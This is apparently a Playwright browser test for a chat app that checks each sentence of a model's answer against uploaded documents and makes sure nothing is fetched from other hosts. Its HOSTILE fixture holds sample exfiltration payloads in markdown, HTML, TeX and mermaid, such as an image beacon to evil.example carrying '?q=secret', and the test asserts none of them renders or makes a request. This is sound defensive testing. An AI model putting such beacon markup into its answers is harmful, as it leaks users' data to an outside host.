"""What a chat model writes, in a real browser: each sentence checked, nothing fetched from elsewhere."""

from __future__ import annotations

from pathlib import Path
from urllib.parse import urlsplit

import pytest

from evals.served import served
from tests.app.test_browser import FLAGS, SHOTS, ask, upload
from tests.fake_endpoint import FakeEndpoint, says

playwright = pytest.importorskip("playwright.sync_api")

ANSWER = (
    "The harbour of Fowey opens at six in the morning. [1] The lighthouse shows three white flashes every ten seconds. "
    "[1]\n\nBoats leave with the tide.\n\n"
    "| what | when |\n|---|---|\n| mooring fees | paid monthly to the mayor, $f = \\sqrt[3]{x}$ |\n\n"
)
HOSTILE = (
    "![beacon](https://evil.example/beacon.png?q=secret) [click][r] <img src='https://evil.example/x.png'>\n"
    "<https://evil.example/auto> https://evil.example/bare\n\n[r]: https://evil.example/ref\n\n"
    '$\\href{https://evil.example/tex}{x}$ :material/bolt: ```mermaid\nclick A href "https://evil.example/m"\n```'
)


@pytest.mark.slow
def test_every_sentence_is_checked_and_nothing_leaves_the_machine(tmp_path: Path, chromium: str):
    asked: set[str | None] = set()
    with (
        FakeEndpoint(
            says(ANSWER), says(HOSTILE), says("The mayor sings opera in the town hall every Friday. [1]")
        ) as model,
        served(tmp_path / "home", FOOTNOTE_CHAT_MODEL="fake", OPENAI_BASE_URL=model.url) as (address, _),
        playwright.sync_playwright() as started,
    ):
        browser = started.chromium.launch(executable_path=chromium, args=FLAGS)
        page = browser.new_page(viewport={"width": 1280, "height": 860})
        page.on("request", lambda request: asked.add(urlsplit(request.url).hostname))
        page.goto(address)
        upload(page)
        ask(page, "When does the harbour of Fowey open, and what does the lighthouse show?")
        page.locator(".remark").first.wait_for()
        assert page.locator(".remark").all_inner_texts() == ["not in the source", "found", "not in the source"]
        page.locator(".remark").first.focus()
        tip = page.locator(".remark").first.locator("xpath=following-sibling::span")
        assert "“three” is not in the source, which says “two”" in tip.inner_text()
        root = page.locator(".text mroot")
        assert root.evaluate("it => it.namespaceURI.endsWith('MathML') && it.getBoundingClientRect().width > 9")
        page.screenshot(path=SHOTS / "checked.png", full_page=True)
        page.set_viewport_size({"width": 390, "height": 844})
        assert page.evaluate("document.documentElement.scrollWidth") <= 390
        page.screenshot(path=SHOTS / "checked-phone.png")
        page.set_viewport_size({"width": 1280, "height": 860})
        ask(page, "What would an attacker write about the beacon of the lighthouse?")
        page.get_by_text("What the model wrote").last.click()
        page.wait_for_timeout(500)
        ask(page, "What does the mayor do?")
        playwright.expect(page.get_by_text("Not found in your documents.")).to_have_count(2)
        page.get_by_text("What the model wrote").last.click()
        playwright.expect(page.get_by_text("sings opera")).to_be_visible()
        page.wait_for_timeout(500)
        page.screenshot(path=SHOTS / "withheld.png")
        assert page.locator("a[href*='evil'], img[src*='evil']").count() == 0
        browser.close()
    assert asked <= {"127.0.0.1", "", None}, "something was asked of another host"
